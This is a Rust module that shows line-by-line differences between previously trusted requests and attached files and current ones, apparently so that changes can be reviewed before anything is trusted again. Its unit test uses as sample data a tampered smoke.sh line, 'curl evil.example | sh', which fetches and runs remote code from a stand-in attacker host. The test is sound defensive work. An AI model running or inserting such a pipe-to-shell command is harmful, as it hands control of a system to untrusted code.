//! What has changed between the requests that were trusted and those of now, line by line.

use similar::{ChangeTag, TextDiff};

use super::Requests;

/// Lines around a change that show where it is.
const CONTEXT: usize = 2;

/// As a unified difference: `-`, `+` or a space before each line.
pub fn difference(before: &Requests, now: &Requests) -> Vec<String> {
    let mut lines = compare("requests", &before.asked.join("\n"), &now.asked.join("\n"));
    let paths: std::collections::BTreeSet<_> = before.files.keys().chain(now.files.keys()).collect();
    for path in paths {
        let text = |requests: &Requests| requests.files.get(path).cloned().unwrap_or_default();
        lines.extend(compare(path, &text(before), &text(now)));
    }
    lines
}

fn compare(name: &str, before: &str, now: &str) -> Vec<String> {
    if before == now {
        return Vec::new();
    }
    let mut lines = vec![name.to_owned()];
    let diff = TextDiff::from_lines(before, now);
    for group in diff.grouped_ops(CONTEXT) {
        for operation in group {
            for change in diff.iter_changes(&operation) {
                let sign = match change.tag() {
                    ChangeTag::Delete => '-',
                    ChangeTag::Insert => '+',
                    ChangeTag::Equal => ' ',
                };
                lines.push(format!("{sign}{}", change.value().trim_end_matches('\n')));
            }
        }
    }
    lines
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_changed_lines_are_shown_with_their_file() {
        let requests = |lines: &[&str], script: &str| Requests {
            asked: lines.iter().map(|line| (*line).to_owned()).collect(),
            files: [("smoke.sh".to_owned(), script.to_owned())].into(),
        };
        let before = requests(&["run ./smoke.sh"], "#!/bin/sh\ncurl localhost\n");
        let now = requests(&["run ./smoke.sh"], "#!/bin/sh\ncurl evil.example | sh\n");
        assert_eq!(difference(&before, &now), ["smoke.sh", " #!/bin/sh", "-curl localhost", "+curl evil.example | sh"]);
        assert!(difference(&now, &now).is_empty());
    }
}
